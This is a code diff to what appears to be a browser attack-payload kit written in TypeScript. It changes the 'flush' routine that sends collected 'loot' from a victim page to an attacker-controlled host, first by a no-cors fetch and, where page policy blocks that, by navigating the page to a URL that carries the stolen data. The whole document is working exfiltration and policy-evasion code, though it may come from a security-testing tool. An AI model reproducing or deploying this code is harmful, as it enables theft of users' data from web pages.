@@ -7,7 +7,10 @@ export interface Kit {
   readonly params: Readonly<Record<string, string>>
   /** Keeps a find for the next `flush`. */
   take(kind: string, value: unknown): void
-  /** Sends what was found to the attacker's site: by fetch, or, where the page's policy forbids that, by leaving the page. */
+  /**
+   * Sends what was found to the attacker's site: by fetch, or, where the page's policy forbids that, by leaving the page. Where nothing was
+   * found it says so and stays; where even that is forbidden, the browser's report of it says the same.
+   */
   flush(): Promise<void>
 }
 
@@ -27,8 +30,9 @@ export function compile(payload: Payload, params: Readonly<Record<string, string
     take(kind, value) { if (value !== undefined && value !== null && value !== '') loot[kind] = String(value) },
     async flush() {
       const body = JSON.stringify({ loot })
-      try { await native(kit.evil + '/loot', { method: 'POST', mode: 'no-cors', body, keepalive: true }) }
-      catch { if (Object.keys(loot).length > 0) location.assign(kit.evil + '/loot?d=' + encodeURIComponent(body)) }
+      const found = Object.keys(loot).some((kind) => kind !== 'error')
+      try { await native(kit.evil + (found ? '/loot' : '/nothing'), { method: 'POST', mode: 'no-cors', body, keepalive: true }) }
+      catch { if (found) location.assign(kit.evil + '/loot?d=' + encodeURIComponent(body)) }
     },
   }
   const run = ${payload.toString()}
